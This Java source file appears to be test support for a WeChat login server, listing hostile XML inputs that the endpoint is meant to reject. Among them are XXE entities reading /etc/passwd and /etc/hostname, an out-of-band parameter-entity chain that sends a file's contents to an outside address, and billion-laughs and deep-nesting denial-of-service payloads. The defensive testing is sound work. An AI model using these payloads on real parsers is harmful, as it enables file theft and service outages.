package dev.minilogin.bootstrap.http;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** XML that no push of WeChat's is: it would fetch, multiply or confuse something. */
final class HostileXml {
  private static final String EVENT =
      "<MsgType>event</MsgType><Event>user_info_modified</Event><CreateTime>1</CreateTime>";

  private HostileXml() {}

  /**
   * All of it, by name.
   *
   * @param elsewhere an http address that nobody may ask for anything
   */
  static Map<String, String> all(String elsewhere) {
    Map<String, String> all = new LinkedHashMap<>();
    addDocumentTypes(all, elsewhere);
    addEntities(all);
    addOtherMarkup(all, elsewhere);
    addMalformed(all);
    addTooMuch(all);
    return all;
  }

  private static void addDocumentTypes(Map<String, String> all, String elsewhere) {
    all.put("a document type", typed("", ""));
    all.put("an empty internal subset", typed("[]", ""));
    all.put("an external subset", typed("SYSTEM \"" + elsewhere + "/x.dtd\"", ""));
    all.put("a public external subset", typed("PUBLIC \"-//x\" \"" + elsewhere + "/x.dtd\"", ""));
    all.put("a file as external subset", typed("SYSTEM \"file:///etc/passwd\"", ""));
    all.put("an internal entity", entity("<!ENTITY e \"x\">"));
    all.put("a file as entity", entity("<!ENTITY e SYSTEM \"file:///etc/passwd\">"));
    all.put("a folder as entity", entity("<!ENTITY e SYSTEM \"file:///\">"));
    all.put("a device as entity", entity("<!ENTITY e SYSTEM \"file:///dev/zero\">"));
    all.put("an address as entity", entity("<!ENTITY e SYSTEM \"" + elsewhere + "/e\">"));
    all.put("a jar as entity", entity("<!ENTITY e SYSTEM \"jar:" + elsewhere + "/a.jar!/e\">"));
    all.put("ftp as entity", entity("<!ENTITY e SYSTEM \"ftp://127.0.0.1:1/e\">"));
    all.put("a parameter entity", entity("<!ENTITY % p SYSTEM \"" + elsewhere + "/p.dtd\"> %p;"));
    all.put(
        "a parameter entity that sends a file",
        entity(
            "<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % s \"<!ENTITY &#37; g SYSTEM '"
                + elsewhere
                + "/?%f;'>\"> %s; %g;"));
    all.put("a default attribute", typed("[<!ATTLIST xml a CDATA \"x\">]", ""));
    all.put("a notation", typed("[<!NOTATION n SYSTEM \"" + elsewhere + "/n\">]", ""));
    all.put("a document type of another case", "<!doctype xml><xml>" + EVENT + "</xml>");
  }

  private static void addEntities(Map<String, String> all) {
    StringBuilder laughs = new StringBuilder("<!ENTITY e0 \"ha\">");
    for (int i = 1; i <= 30; i++) {
      laughs.append("<!ENTITY e%d \"&e%d;&e%d;\">".formatted(i, i - 1, i - 1));
    }
    all.put("a billion laughs", typed("[" + laughs + "]", "<OpenID>&e30;</OpenID>"));
    all.put(
        "a quadratic blow-up",
        typed(
            "[<!ENTITY e \"" + "x".repeat(10_000) + "\">]",
            "<OpenID>" + "&e;".repeat(5_000) + "</OpenID>"));
    all.put("an entity of itself", entity("<!ENTITY e \"&e;\">"));
    all.put("an entity that is not declared", xml(EVENT + "<OpenID>&e;</OpenID>"));
    all.put("an entity declared without a type", "<!ENTITY e \"x\">" + xml(EVENT));
    all.put("a reference to no character", xml(EVENT + "<OpenID>&#0;</OpenID>"));
    all.put("a reference to half a character", xml(EVENT + "<OpenID>&#xD800;</OpenID>"));
  }

  private static void addOtherMarkup(Map<String, String> all, String elsewhere) {
    all.put(
        "an inclusion",
        xml(
            EVENT
                + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                + elsewhere
                + "/i\"/>"));
    all.put(
        "a schema",
        "<xml xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
            + " xsi:noNamespaceSchemaLocation=\""
            + elsewhere
            + "/s.xsd\">"
            + EVENT
            + "</xml>");
    all.put(
        "a style sheet",
        "<?xml-stylesheet type=\"text/xsl\" href=\"" + elsewhere + "/s.xsl\"?>" + xml(EVENT));
    all.put("an instruction inside", xml(EVENT + "<?php echo 1 ?>"));
    all.put("an attribute", "<xml a=\"1\">" + EVENT + "</xml>");
    all.put("a prefix that is not bound", "<a:xml>" + EVENT + "</a:xml>");
    all.put("another encoding", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + xml(EVENT));
    all.put("an old encoding", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + xml(EVENT));
    all.put("an encoding that hides", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + xml(EVENT));
  }

  private static void addMalformed(Map<String, String> all) {
    all.put("nothing but blanks", "  \n ");
    all.put("no end", "<xml>" + EVENT);
    all.put("ends crossed", "<xml><a><b></a></b></xml>");
    all.put("two roots", xml(EVENT) + xml(EVENT));
    all.put("text behind", xml(EVENT) + "x");
    all.put("text before", "x" + xml(EVENT));
    all.put("a declaration that comes late", " <?xml version=\"1.0\"?>" + xml(EVENT));
    all.put("a CDATA section without end", "<xml><Event><![CDATA[x</Event></xml>");
    all.put("a comment without end", "<xml><!-- " + EVENT + "</xml>");
    all.put("a control character", xml(EVENT + "<OpenID>\u0001</OpenID>"));
    all.put("a name that is none", xml("<1>x</1>"));
  }

  private static void addTooMuch(Map<String, String> all) {
    all.put("ten levels", xml(EVENT + nested(10)));
    all.put("nine thousand levels", xml(EVENT + nested(9_000)));
    all.put(
        "three hundred fields",
        xml(
            EVENT
                + IntStream.range(0, 300)
                    .mapToObj(i -> "<f" + i + ">x</f" + i + ">")
                    .collect(Collectors.joining())));
  }

  private static String nested(int depth) {
    return "<a>".repeat(depth) + "</a>".repeat(depth);
  }

  private static String xml(String inside) {
    return "<xml>" + inside + "</xml>";
  }

  private static String typed(String type, String inside) {
    return "<!DOCTYPE xml " + type + ">" + xml(EVENT + inside);
  }

  private static String entity(String declarations) {
    return typed("[" + declarations + "]", "<OpenID>&e;</OpenID>");
  }
}
